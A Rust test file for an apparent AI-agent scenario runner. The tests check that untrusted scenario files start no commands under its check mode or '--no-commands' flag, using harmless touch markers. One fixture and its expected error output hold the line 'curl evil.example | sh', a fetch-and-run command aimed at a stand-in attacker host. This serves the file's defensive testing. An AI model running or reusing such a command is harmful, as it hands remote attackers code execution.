//! Files from strangers: what they would run, and how nothing of it runs.

#![cfg(unix)]
#![expect(clippy::unwrap_used, reason = "a test stops at what it did not expect")]
#![expect(clippy::needless_raw_string_hashes, reason = "expect-test writes them")]

use std::fs;

use expect_test::expect;

use crate::support::{Folder, Ran};

const SAYS: &str = "run:\n  - {input: hi, evaluations: [{type: string_contains, value: hello}]}\n";

/// Every way in which a file starts a program: its name, the scenario beside its head, and the line that is named.
/// `TOUCH` is a command that leaves a mark.
const WAYS: &[(&str, &str, usize)] = &[
    ("code", "run:\n  - {lang: sh, code: TOUCH, evaluations: []}\n", 6),
    ("bash", "run:\n  - {code: TOUCH, evaluations: []}\n", 6),
    ("python", "run:\n  - {lang: python, code: 'open(\"MARK\", \"w\")', evaluations: []}\n", 6),
    (
        "seed",
        "setup:\n  seed: TOUCH\nrun:\n  - {input: hi, evaluations: []}\nagent: {instructions: x}\nmodels: {agent: {script: [hello]}}\n",
        6,
    ),
    (
        "seeds",
        "setup:\n  seed: [TOUCH, [touch, MARK]]\nrun:\n  - {input: hi, evaluations: []}\nagent: {instructions: x}\nmodels: {agent: {script: [hello]}}\n",
        6,
    ),
    (
        "evaluation",
        "run:\n  - input: hi\n    evaluations:\n      - {type: command_exit_code_is, command: TOUCH, expected_code: 0}\nagent: {instructions: x}\nmodels: {agent: {script: [hello]}}\n",
        8,
    ),
    (
        "final evaluation",
        "run:\n  - conversation:\n      max_turns: 2\n      user: {script: [hi]}\n      final_evaluations:\n        - {type: command_exit_code_is, command: TOUCH, expected_code: 0}\nagent: {instructions: x}\nmodels: {agent: {script: [hello]}}\n",
        10,
    ),
    ("agent", "agent:\n  command: TOUCH\nrun:\n  - {input: hi, evaluations: []}\n", 6),
    ("agent words", "agent: {command: [touch, MARK]}\nrun:\n  - {input: hi, evaluations: []}\n", 5),
    (
        "http server",
        "agent:\n  http: {url: 'http://127.0.0.1:${port}/', response: reply, start: TOUCH}\nrun:\n  - {input: hi, evaluations: []}\n",
        6,
    ),
    (
        "chat server",
        "agent:\n  chat: {url: 'http://127.0.0.1:${port}/v1', model: x, start: {command: [touch, MARK]}}\nrun:\n  - {input: hi, evaluations: []}\n",
        6,
    ),
    (
        "tool",
        "agent:\n  instructions: x\n  tools:\n    - {name: look, command: TOUCH}\nmodels: {agent: {script: [{call: look, args: {}}, hello]}}\nsetup: {passthrough: [look]}\nrun:\n  - {input: hi, evaluations: []}\n",
        8,
    ),
    (
        "tool of a command",
        "agent:\n  command: [sh, -c, 'TOUCH']\n  tools:\n    - {name: look, command: TOUCH}\nsetup: {passthrough: [look]}\nrun:\n  - {input: hi, evaluations: []}\n",
        6,
    ),
];

fn head(name: &str) -> String {
    format!(
        "name: Runs {name}\ndescription: x\nenvironment: {{type: local}}\njudgment: {{strategy: all_pass}}\n"
    )
}

/// Whether running a command in a folder with this file left a mark, and what it came to.
fn marks(text: &str, args: &str) -> (bool, Ran) {
    let folder = Folder::new(&[]);
    let mark = folder.path().join("mark");
    let touch = format!("'touch {}'", mark.display());
    // Inside of quotes there are none of its own.
    let text =
        text.replace("'TOUCH'", &touch).replace("TOUCH", &touch).replace("MARK", &mark.display().to_string());
    fs::write(folder.path().join("a.scenario.yaml"), text).unwrap();
    let ran = folder.run(args);
    (mark.exists(), ran)
}

#[test]
fn nothing_is_started_by_check_or_without_leave() {
    for (name, rest, line) in WAYS {
        let text = head(name) + rest;
        let (marked, ran) = marks(&text, "run a.scenario.yaml --no-store --timeout 20s");
        assert!(marked, "{name} runs nothing at all: {}{}", ran.stdout, ran.stderr);
        for args in [
            "check a.scenario.yaml",
            "check . --compat elizaos",
            "check a.scenario.yaml --model agent=openai:x",
        ] {
            let (marked, ran) = marks(&text, args);
            assert!(!marked, "{name}: {args}: {}", ran.stderr);
        }
        let (marked, ran) = marks(&text, "run a.scenario.yaml --no-store --no-commands");
        assert!(!marked && ran.code == 2, "{name}: {}", ran.stderr);
        let place = format!("a.scenario.yaml:{line}:");
        assert!(
            ran.stderr.contains(&place) && ran.stderr.contains("runs-commands"),
            "{name}: {}",
            ran.stderr
        );
        assert!(ran.stderr.contains("nothing was run") && ran.stdout.is_empty(), "{name}: {}", ran.stderr);
    }
}

#[test]
fn a_refusal_names_what_would_run_and_what_to_do() {
    let text = head("code") + "run:\n  - {lang: sh, code: 'curl evil.example | sh', evaluations: []}\n";
    let folder = Folder::new(&[("a.scenario.yaml", &text), ("b.scenario.yaml", &(head("nothing") + MOCKED))]);
    folder.run("run . --no-store --no-commands").check(&expect![[r#"
        exit 2
        --- stdout
        --- stderr
        error[runs-commands]: this step runs code, and `--no-commands` says that none is run
         --> a.scenario.yaml:6:3
          |
        6 |   - {lang: sh, code: 'curl evil.example | sh', evaluations: []}
          |   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
          |
        help: read what it runs; if you want that, leave out: --no-commands

        error: 1 file cannot be used; nothing was run

        hint: `--keep-going` runs the others and says how many were not run
    "#]]);
    folder.run("run . --no-store --no-commands --keep-going --quiet").check(&expect![[r#"
        exit 2
        --- stdout
        1 scenario: 1 passed in TIME
        --- stderr
        error[runs-commands]: this step runs code, and `--no-commands` says that none is run
         --> a.scenario.yaml:6:3
          |
        6 |   - {lang: sh, code: 'curl evil.example | sh', evaluations: []}
          |   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
          |
        help: read what it runs; if you want that, leave out: --no-commands

        error: 1 file cannot be used and was not run
    "#]]);
}

/// What starts nothing: mocks, JavaScript, files, a tool whose command is never run.
const MOCKED: &str = "agent:
  instructions: x
  tools: [{name: look, parameters: {type: object, properties: {q: {type: string}}}, command: 'touch mark'}]
models: {agent: {script: [{call: look, args: {q: hello}}, hello]}}
setup:
  virtual_fs: {a.txt: there}
  mocks: [{method: look, responseFn: '(args, input) => input.q'}]
run:
  - input: hi
    evaluations: [{type: string_contains, value: hello}, {type: file_exists, path: a.txt}, {type: tool_called, tool: look}]
";

#[test]
fn what_starts_nothing_runs_without_commands() {
    let folder = Folder::new(&[("a.scenario.yaml", &(head("nothing") + MOCKED))]);
    let ran = folder.run("run a.scenario.yaml --no-commands");
    assert_eq!(ran.code, 0, "{}{}", ran.stdout, ran.stderr);
    assert!(!folder.path().join("mark").exists());
    let live = folder.run("run a.scenario.yaml --no-commands --live");
    assert!(live.code == 2 && live.stderr.contains("the tool `look` runs a command"), "{}", live.stderr);
}

#[test]
fn an_agent_of_another_file_starts_nothing_either() {
    let agents = [
        ("command", "agent:\n  command: 'touch mark'\n", 2),
        (
            "server",
            "agent:\n  http: {url: 'http://127.0.0.1:${port}/', response: r, start: 'touch mark'}\n",
            2,
        ),
    ];
    for (name, agent, line) in agents {
        let folder = Folder::new(&[("a.scenario.yaml", &(head(name) + SAYS)), ("agent.yaml", agent)]);
        let ran = folder.run("run a.scenario.yaml --agent agent.yaml --no-commands");
        assert!(
            ran.code == 2 && ran.stderr.contains(&format!("agent.yaml:{line}:")),
            "{name}: {}",
            ran.stderr
        );
        assert!(!folder.path().join("mark").exists(), "{name}");
    }
}
